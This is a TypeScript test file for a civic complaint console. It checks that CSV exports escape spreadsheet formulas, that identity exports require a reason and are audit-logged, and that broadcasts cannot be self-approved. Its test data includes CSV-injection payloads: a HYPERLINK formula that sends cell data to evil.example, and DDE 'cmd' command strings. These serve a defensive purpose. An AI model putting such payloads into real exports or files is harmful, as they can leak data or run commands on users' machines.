// What leaves the console and what goes out in the committee's name: a CSV export never
// carries a live formula, identities leave only with a reason and a record per ticket, and no
// one approves a broadcast they wrote or changed.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testProviders } from '../support/databases.js';
import {
  addOfficer,
  COMMUNE_A,
  seedTicket,
  signedIn,
  startConsoleServer,
  type ConsoleServer,
} from '../console/console-harness.js';

const providers = await testProviders();

/** Cells a spreadsheet runs as formulas, as citizens could type them. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

describe.each(providers)('exports and approvals on %s', (provider) => {
  let server: ConsoleServer;
  beforeAll(async () => {
    server = await startConsoleServer(provider);
    await addOfficer(server.db, 'exp.super', 'supervisor', null);
    await addOfficer(server.db, 'exp.second', 'supervisor', null);
    await addOfficer(server.db, 'exp.officer', 'officer', COMMUNE_A);
  });
  afterAll(async () => {
    await server?.stop();
  });

  const rowsOf = (text: string): Record<string, string>[] => parse(text.replace(/^\uFEFF/, ''), { columns: true });

  it('writes no cell a spreadsheet would run as a formula, in the plain and the identity export', async () => {
    const codes: string[] = [];
    for (const formula of FORMULAS)
      codes.push(
        await seedTicket(server, {
          localityCode: COMMUNE_A,
          description: formula,
          identity: { fullName: '=cmd|"/c calc"!A1', address: '@Thôn 2', phone: '+84912345678' },
        }),
      );
    const supervisor = await signedIn(server, 'exp.super');
    for (const query of ['', `identity=1&reason=${encodeURIComponent('Xác minh người tố cáo')}`]) {
      const rows = rowsOf((await supervisor.get(`/api/console/export.csv?${query}`)).text).filter((row) =>
        codes.includes(row.code ?? ''),
      );
      expect(rows).toHaveLength(FORMULAS.length);
      for (const row of rows) {
        for (const [column, value] of Object.entries(row))
          expect(value, `${column} of ${row.code}`).not.toMatch(/^[=+\-@\t\r＝]/);
      }
      // the text is all there, behind the apostrophe that keeps it text
      expect(rows.map((row) => row.description)).toEqual(FORMULAS.map((formula) => `'${formula}`));
      if (query) expect(rows[0]?.reporterName).toBe('\'=cmd|"/c calc"!A1');
    }
  });

  it('exports identities only with a reason, and records each ticket whose identity left', async () => {
    const named = await seedTicket(server, {
      localityCode: COMMUNE_A,
      kind: 'denunciation',
      identity: { fullName: 'Lưu Thị Hoa', address: 'Thôn Bản Ne', phone: '0915 000 222' },
    });
    const anonymous = await seedTicket(server, { localityCode: COMMUNE_A });
    const supervisor = await signedIn(server, 'exp.super');
    const noReason = await supervisor.get('/api/console/export.csv?identity=1');
    expect(noReason.status).toBe(400);
    expect(noReason.body.error).toBe('console.reason_required');
    expect(noReason.text).not.toContain('Lưu Thị Hoa');
    const reason = 'Chuyển cơ quan điều tra theo yêu cầu';
    const exported = await supervisor.get(`/api/console/export.csv?identity=1&reason=${encodeURIComponent(reason)}`);
    expect(exported.text).toContain('Lưu Thị Hoa');
    const record = await server.db.auditLog.findFirstOrThrow({
      where: { action: 'ticket.identity_export', targetId: named },
    });
    expect(JSON.parse(record.detail ?? '{}')).toEqual({ reason });
    expect(await server.db.auditLog.count({ where: { action: 'ticket.identity_export', targetId: anonymous } })).toBe(
      0,
    );
    // the ticket's own timeline shows that its identity left, like a reveal
    const timeline = await supervisor.get(`/api/console/tickets/${named}`);
    expect(timeline.body.events.find((event: { type: string }) => event.type === 'identity_reveal')?.reason).toContain(
      reason,
    );
  });

  it('lets nobody approve a broadcast they wrote or changed, and sends an edited one back for approval', async () => {
    const officer = await signedIn(server, 'exp.officer');
    const supervisor = await signedIn(server, 'exp.super');
    const second = await signedIn(server, 'exp.second');
    const draft = {
      title: 'Nhắc lịch bầu cử',
      textVi: 'Chủ nhật này là ngày bầu cử.',
      textEn: 'Sunday is election day.',
      audienceLocality: COMMUNE_A,
    };
    const created = (await officer.post('/api/console/broadcasts', draft)).body;
    // the approver rewrites someone else's draft, submits it, and tries to approve his own words
    expect(
      (
        await supervisor.request('PUT', `/api/console/broadcasts/${created.id}`, {
          ...draft,
          textVi: 'Văn bản do người duyệt viết lại.',
        })
      ).status,
    ).toBe(200);
    expect((await supervisor.post(`/api/console/broadcasts/${created.id}/submit`)).status).toBe(200);
    const selfApproval = await supervisor.post(`/api/console/broadcasts/${created.id}/approve`);
    expect(selfApproval.status).toBe(403);
    expect(selfApproval.body.error).toBe('broadcast.self_approval');
    // an edit after submission sends it back: submitted again, a third person approves
    expect(
      (await officer.request('PUT', `/api/console/broadcasts/${created.id}`, { ...draft, textVi: 'Bản sửa cuối.' }))
        .body.status,
    ).toBe('draft');
    expect((await second.post(`/api/console/broadcasts/${created.id}/approve`)).status).toBe(409);
    expect((await officer.post(`/api/console/broadcasts/${created.id}/submit`)).status).toBe(200);
    expect((await supervisor.post(`/api/console/broadcasts/${created.id}/approve`)).status).toBe(403);
    const approved = await second.post(`/api/console/broadcasts/${created.id}/approve`);
    expect(approved.status).toBe(200);
    expect(approved.body).toMatchObject({ status: 'approved', textVi: 'Bản sửa cuối.' });
  });
});
